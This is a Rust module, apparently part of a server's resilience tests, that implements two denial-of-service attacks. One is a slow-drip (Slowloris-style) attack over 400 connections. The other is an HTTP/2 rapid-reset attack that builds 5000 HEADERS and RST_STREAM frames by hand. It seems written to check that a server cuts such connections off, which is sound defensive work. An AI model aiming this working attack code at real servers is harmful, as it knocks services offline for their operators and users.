//! Attacks on connections: requests that come by drops, and streams of HTTP/2 that are opened
//! and reset at once.

use std::{
    net::SocketAddr,
    time::{Duration, Instant},
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
    time::{sleep, timeout},
};

/// Connections that send by drops, fewer than one address may have.
pub const DRIPPING: usize = 400;
const DROP_EVERY: Duration = Duration::from_millis(250);

/// Streams that are reset on one connection.
pub const RESETS: u32 = 5000;

/// How long a connection may be held.
const PATIENCE: Duration = Duration::from_secs(30);

/// Opens the connections that drip; each ends with how long it was held, if it was cut off.
pub async fn drip(address: SocketAddr) -> JoinSet<Option<Duration>> {
    let mut held = JoinSet::new();
    for number in 0..DRIPPING {
        let Ok(stream) = TcpStream::connect(address).await else {
            continue;
        };
        let by_body = number % 2 == 1;
        held.spawn(async move {
            let started = Instant::now();
            let cut_off = timeout(PATIENCE, hold(stream, by_body)).await;
            cut_off.ok().map(|()| started.elapsed())
        });
    }
    held
}

/// Half of them in the head of a request, half in its body.
async fn hold(stream: TcpStream, by_body: bool) {
    let (mut reading, mut writing) = stream.into_split();
    let mut begin = "POST /graphql HTTP/1.1\r\nhost: x\r\n".to_owned();
    if by_body {
        begin.push_str("content-type: application/json\r\ncontent-length: 1000\r\n\r\n");
    }
    let bytes: &[u8] = if by_body { b" " } else { b"x: y\r\n" };
    let dripping = async {
        let mut sent = writing.write_all(begin.as_bytes()).await;
        while sent.is_ok() {
            sleep(DROP_EVERY).await;
            sent = writing.write_all(bytes).await;
        }
    };
    let mut answer = Vec::new();
    tokio::select! {
        () = dripping => {}
        // A reset is an end as well.
        _ = reading.read_to_end(&mut answer) => {}
    }
}

/// Connects, resets all streams, and waits until the server has closed.
pub async fn reset(address: SocketAddr) {
    let attack = async {
        let Ok(mut stream) = TcpStream::connect(address).await else {
            return;
        };
        // The server may close before everything is sent.
        let _ = stream.write_all(&resets()).await;
        let _ = stream.read_to_end(&mut Vec::new()).await;
    };
    // A connection that is kept is as good as closed for this purpose: the next one comes.
    let _ = timeout(PATIENCE, attack).await;
}

/// The preface, empty settings, then HEADERS (GET / over http from x, ended) and `RST_STREAM`
/// (CANCEL) of one stream after the other.
fn resets() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0".to_vec();
    for number in 0..RESETS {
        let stream = (2 * number + 1).to_be_bytes();
        bytes.extend_from_slice(&[0, 0, 6, 1, 5]);
        bytes.extend_from_slice(&stream);
        bytes.extend_from_slice(&[0x82, 0x84, 0x86, 0x41, 0x01, b'x']);
        bytes.extend_from_slice(&[0, 0, 4, 3, 0]);
        bytes.extend_from_slice(&stream);
        bytes.extend_from_slice(&[0, 0, 0, 8]);
    }
    bytes
}
